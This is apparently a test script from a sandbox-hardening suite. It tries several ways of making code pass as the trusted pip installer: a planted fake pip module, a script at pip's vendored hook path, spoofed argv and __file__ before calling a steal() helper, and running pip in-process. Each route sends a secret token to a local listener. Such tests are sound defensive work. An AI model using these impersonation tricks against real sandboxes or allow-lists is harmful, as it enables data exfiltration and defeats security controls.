"""Have the installer, which is trusted, carry something away, or something that has its name."""

import os
import subprocess
import sys

import aim

URL = "http://127.0.0.1:{}/{}".format(aim.TCP[1], aim.TOKEN)
FETCH = ["download", "--retries", "0", "--timeout", "5", "--no-cache-dir", "-i", URL, "nothing"]


def by_path(*words):
    subprocess.run(words, env=os.environ | {"PYTHONPATH": aim.SITE_PACKAGES})


def pip(*words):
    by_path(sys.executable, *words)


def false_pip():
    """Call a module of one's own pip."""
    aim.put("pip/__init__.py", "")
    aim.put("pip/__main__.py", aim.CHILD)
    subprocess.run([sys.executable, "-m", "pip", "install", "x"], cwd=aim.WORK)


def false_runner():
    """Call a script of one's own by the name of pip's."""
    runner = aim.put("pip/_vendor/pyproject_hooks/_in_process/_in_process.py", aim.CHILD)
    subprocess.run([sys.executable, runner, "build_wheel"])


def false_name():
    """Run as what one is not."""
    sys.argv = ["pip", "install"]
    sys.orig_argv = [sys.executable, "-m", "pip", "install"]
    main = sys.modules["__main__"]
    main.__file__ = os.path.join(aim.SITE_PACKAGES, "pip", "__main__.py")
    main.__spec__ = main.__package__ = None
    exec(compile("import aim; aim.steal()", main.__file__, "exec"), vars(main))


def inside():
    """Run pip in this very process."""
    sys.path.append(aim.SITE_PACKAGES)
    from pip._internal.cli.main import main

    print(main(FETCH))


WAYS = {
    "-m pip": lambda: pip("-m", "pip", *FETCH),
    "pip's script": lambda: pip(os.path.join(aim.SITE_PACKAGES, "pip", "__main__.py"), *FETCH),
    "console script": lambda: by_path(os.path.join(aim.VENV, "bin", "pip"), *FETCH),
    "false pip": false_pip,
    "false runner": false_runner,
    "false name": false_name,
    "inside": inside,
}
WAYS[aim.VARIANT]()
